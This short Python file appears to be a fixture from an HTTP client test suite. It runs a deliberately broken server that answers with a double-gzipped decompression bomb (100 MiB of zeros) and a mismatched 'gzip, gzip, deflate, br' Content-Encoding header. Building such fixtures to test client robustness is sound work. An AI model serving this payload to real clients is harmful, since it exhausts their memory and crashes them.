import gzip

import server


BOMB = gzip.compress(gzip.compress(bytes(100 << 20)))


class Attack(server.Broken):
    def answer(self):
        self.raw(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Encoding: gzip, gzip, deflate, br\r\nContent-Length: %d\r\n\r\n" % len(BOMB) + BOMB)


server.serve(Attack)
